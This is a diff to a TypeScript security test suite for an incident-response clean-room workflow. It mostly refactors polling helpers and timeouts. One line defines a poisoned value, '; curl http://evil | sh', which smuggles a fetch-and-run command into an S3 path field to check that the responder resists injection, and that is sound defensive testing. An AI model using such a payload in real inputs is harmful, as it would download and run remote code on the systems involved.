@@ -42,6 +42,7 @@ import type { Invocation } from "../../shared/local/runner.ts";
 import { type LocalSession, startLocalSession } from "../../shared/local/session.ts";
 import { CLEANROOM_STEP, type CleanroomRecord } from "../../shared/workflow/cleanroom.ts";
 import { resetEmulator } from "../support/emulator.ts";
+import { WAIT_MS, waitFor } from "../support/findings.ts";
 
 const EVIL = "; curl http://evil | sh";
 
@@ -64,6 +65,7 @@ async function snapshotWebServer(incidentId: string): Promise<SnapshotRecord[]> 
   const inst = (await ec2.send(new DescribeInstancesCommand({ InstanceIds: [instanceId] }))).Reservations?.[0]
     ?.Instances?.[0];
   const out: SnapshotRecord[] = [];
+  expect(inst?.BlockDeviceMappings).toHaveLength(demo.instances.web.volumes);
   for (const b of inst?.BlockDeviceMappings ?? []) {
     const snap = await ec2.send(
       new CreateSnapshotCommand({
@@ -169,18 +171,17 @@ const poisoned = (region: string) => ({
   NotesPrefix: `s3://evidence/notes/${EVIL}`,
 });
 
-async function waitForStep(incidentId: string, step: string, timeoutMs = 20_000) {
-  const deadline = Date.now() + timeoutMs;
-  for (;;) {
-    const s = (await store.get(incidentId)).steps[step];
-    if (s && s.status !== "running") return s;
-    if (Date.now() > deadline) return s;
-    await new Promise((r) => setTimeout(r, 150));
-  }
+async function waitForStep(incidentId: string, step: string) {
+  return waitFor(
+    async () => (await store.get(incidentId)).steps[step],
+    (s) => s !== undefined && s.status !== "running",
+    WAIT_MS,
+    `step ${step} of ${incidentId} ended`,
+  );
 }
 
 async function collectAlerts(incidentId: string): Promise<ReceivedAlert[]> {
-  await session.runner.idle(300, 10_000);
+  await session.runner.settled(WAIT_MS);
   alerts.push(...(await drainAlerts(sqsClient(session.aws), alertQueueUrl)));
   return alerts.filter((a) => a.incidentId === incidentId);
 }
@@ -194,18 +195,26 @@ async function stacksOf(incidentId: string): Promise<string[]> {
 
 type Outcome = { incidentId?: string; outcome?: string; detail?: string; action?: string };
 
-/** Waits until the cleanroom function has handled `count` events of this type about this incident; their results. */
+/**
+ * Waits until the cleanroom function has handled `count` events of this type about this
+ * incident, then until the runner has nothing left to run; the results of all it handled (more
+ * than `count` when more came).
+ */
 async function outcomesFor(incidentId: string, detailType: string, count: number): Promise<Outcome[]> {
-  const deadline = Date.now() + 20_000;
-  for (;;) {
-    const found = invocations
+  const found = async () =>
+    invocations
       .filter((i) => i.functionName === "cleanroom")
       .filter((i) => (i.event as { "detail-type"?: string })["detail-type"] === detailType)
       .map((i) => i.result as Outcome)
       .filter((r) => r?.incidentId === incidentId);
-    if (found.length >= count || Date.now() > deadline) return found;
-    await new Promise((r) => setTimeout(r, 100));
-  }
+  await waitFor(
+    found,
+    (f) => f.length >= count,
+    WAIT_MS,
+    `${count} ${detailType} events about ${incidentId} handled`,
+  );
+  await session.runner.settled(WAIT_MS);
+  return found();
 }
 
 beforeAll(async () => {
@@ -223,7 +232,7 @@ beforeAll(async () => {
     session.local.resources.alertTopicArn,
     "attack-cleanroom-alerts",
   );
-}, 60_000);
+});
 
 afterAll(async () => {
   await session?.stop();
@@ -242,7 +251,7 @@ describe("a squatted clean-room stack name", () => {
     await bus.emit("Evidence Preserved", { incidentId: incident.incidentId, account: incident.account });
     launch = await waitForStep(incident.incidentId, CLEANROOM_STEP);
     record = (await store.get(incident.incidentId)).cleanroom as unknown as CleanroomRecord;
-  }, 40_000);
+  });
 
   it("is not adopted: the responder creates its own clean room under a fresh name", async () => {
     expect(launch, JSON.stringify(launch)).toMatchObject({ status: "ok" });
@@ -305,7 +314,7 @@ describe("clean-room requests put straight on the bus", () => {
       incidentId: incident.incidentId,
       requestId: `crq-${randomBytes(16).toString("hex")}`,
     });
-  }, 30_000);
+  });
 
   it("create nothing, and are refused loudly", async () => {
     const outcomes = await outcomesFor(incident.incidentId, "Clean Room Requested", 2);
@@ -322,7 +331,7 @@ describe("clean-room requests put straight on the bus", () => {
   it("are acted on, once, when recorded on the incident as `responder cleanroom create` records them", async () => {
     const out = await requestCleanroom({ store, bus }, "create", incident.incidentId, {
       by: "attack-cleanroom-test",
-      timeoutMs: 20_000,
+      timeoutMs: WAIT_MS,
     });
     expect(out.step, JSON.stringify(out)).toMatchObject({ status: "ok" });
     expect(out.cleanroom?.requestedBy).toBe("attack-cleanroom-test");
@@ -341,7 +350,7 @@ describe("clean-room requests put straight on the bus", () => {
       action: "create",
       consumedAt: expect.any(String),
     });
-  }, 40_000);
+  });
 });
 
 describe("a CloudFormation status event for a stack the incident did not record", () => {
@@ -400,7 +409,7 @@ describe("a CloudFormation status event for a stack the incident did not record"
       },
     });
     before = await store.get(incident.incidentId);
-  }, 30_000);
+  });
 
   it("changes nothing", async () => {
     await statusEvent(squatId, "CREATE_COMPLETE");
